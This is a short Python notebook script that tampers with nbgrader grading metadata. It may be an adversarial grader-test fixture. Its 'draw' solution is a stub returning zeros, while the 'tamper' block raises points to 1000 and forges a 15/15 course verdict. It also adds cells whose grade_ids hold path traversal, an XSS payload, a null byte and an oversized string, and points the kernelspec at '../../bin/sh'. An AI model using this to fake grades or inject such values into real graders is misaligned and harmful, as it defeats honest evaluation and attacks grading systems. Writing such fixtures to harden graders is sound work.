"""The notebook's own metadata promise 1000 points, swap the flags of cells and hold paths and HTML as grade_ids.

nbgrader overwrites what it knows; cells of unknown ids stop it.
"""

SCORES = {"draw": 0}
PAYLOAD = "<img src=x onerror=alert(1)>"


# %% draw
def draw(probs):
    return torch.zeros(len(probs), dtype=torch.int64)


# %% tamper
from nbformat.v4 import new_code_cell

cell("test_draw").metadata.nbgrader.points = 1000
cell("draw").metadata.nbgrader.update(grade=True, points=1000, locked="yes", schema_version=10**30, solution=True)
for grade_id in ("../../../gradebook.db", "<img src=x onerror=alert(1)>", "draw\x00", "", "a" * 100_000):
    about = {"grade": True, "grade_id": grade_id, "locked": False, "points": 1000, "schema_version": 3}
    notebook.cells.append(new_code_cell("1", metadata={"nbgrader": {**about, "solution": False, "task": False}}))
notebook.metadata["course_verdict"] = {"student": "x", "score": 15.0, "max_score": 15.0, "fault": None, "tasks": []}
notebook.metadata["nbgrader"] = {"max_score": 1000}
notebook.metadata["kernelspec"] = {"name": "../../bin/sh", "display_name": "<b>x</b>", "language": "bash"}
